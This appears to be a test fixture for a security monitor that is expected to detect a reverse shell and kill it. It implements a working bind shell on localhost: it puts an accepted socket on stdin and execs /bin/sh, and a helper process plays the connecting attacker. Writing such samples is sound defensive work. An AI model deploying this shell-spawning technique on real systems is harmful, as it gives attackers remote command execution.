# expect: reverse_shell
# action: kill
# about: a bind shell: close(0), accept() puts the attacker's connection on fd 0, exec sh
import os
import socket
import subprocess
import sys

srv = socket.socket()
srv.bind(("127.0.0.1", 0))
srv.listen(1)
port = srv.getsockname()[1]
# the "attacker": connects, sends a command, reads
subprocess.Popen([sys.executable, "-c",
                  "import socket,sys;s=socket.create_connection(('127.0.0.1',int(sys.argv[1])));"
                  "s.sendall(b'echo bind-shell-ran; exit\\n');s.settimeout(10);s.recv(99)",
                  str(port)])
os.close(0)
conn, _ = srv.accept()
assert conn.fileno() == 0
conn.set_inheritable(True)
os.execv("/bin/sh", ["sh"])
